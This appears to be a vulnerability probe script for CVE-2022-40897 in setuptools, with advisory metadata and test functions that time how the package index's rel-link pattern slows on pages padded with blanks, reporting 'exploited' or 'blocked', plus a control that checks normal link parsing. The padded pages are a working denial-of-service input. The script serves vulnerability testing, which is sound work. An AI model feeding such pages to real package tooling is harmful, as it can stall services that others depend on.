# /// vertice-probe
# id = "PYSEC-2022-43012"
# aliases = ["CVE-2022-40897"]
# package = "setuptools"
# summary = "The pattern for rel links in an index page backtracks in the cube of a run of blanks, a denial of service."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = [
#   "setuptools.package_index",
#   "setuptools.package_index.PackageIndex",
#   "setuptools.package_index.find_external_links",
# ]
#
# [[affected]]
# package = "setuptools"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "65.5.1" }] }]
#
# [cases]
# attack = "time for blanks after rel= grows with the cube of their number"
# [cases.variants]
# index_page = "the same growth while a package index scans a page with many rel= attributes"
# [cases.controls]
# links = "home page and download links of a page are found"
#
# [test]
# vulnerable = "65.5.0"
# fixed = "65.5.1"
# ///
"""CVE-2022-40897: cubic backtracking over rel links.

The pattern of the fixed release is still quadratic over other characters; that is not what this probe measures.
"""

import json
import sys
import time
import warnings

warnings.simplefilter("ignore")


def load():
    from setuptools import package_index

    return package_index


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def attack():
    find = load().find_external_links

    def scan(count):
        # the home page link behind the blanks shows that the page was really scanned
        found = list(find("http://127.0.0.1/", "<th>Home Page<td><a href='home'>\n<a rel=" + " " * count))
        if found != ["http://127.0.0.1/home"]:
            raise RuntimeError("the page was not scanned: %r" % found)
        return "the page was scanned"

    # geometric middle of quadratic (25) and cubic (125)
    return judge(scan, 160, 800, 56, "repeats")


def index_page():
    package_index = load()

    def scan(count):
        index = package_index.PackageIndex("http://127.0.0.1/simple/", search_path=[])
        index.process_index("http://127.0.0.1/simple/x/1.0", '<a href="../y/2.0">y</a>\n<a' + " rel= " * count)
        if sorted(index.package_pages) != ["x", "y"]:
            raise RuntimeError("the page was not scanned: %r" % index.package_pages)
        return "the page was scanned"

    return judge(scan, 36, 180, 56, "repeats")


def links():
    page = (
        "<a rel='homepage' href='home.html'>h</a> <A HREF=\"get.html\" REL=download>d</A> <a rel='x' href='no'>n</a>"
        "<th>Home Page<td><a href='old.html'>"
    )
    got = sorted(load().find_external_links("http://127.0.0.1/", page))
    wanted = ["http://127.0.0.1/" + name for name in ("get.html", "home.html", "old.html")]
    return ("works", "three links found") if got == wanted else ("broken", repr(got))


CASES = {"attack": attack, "index_page": index_page, "links": links}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
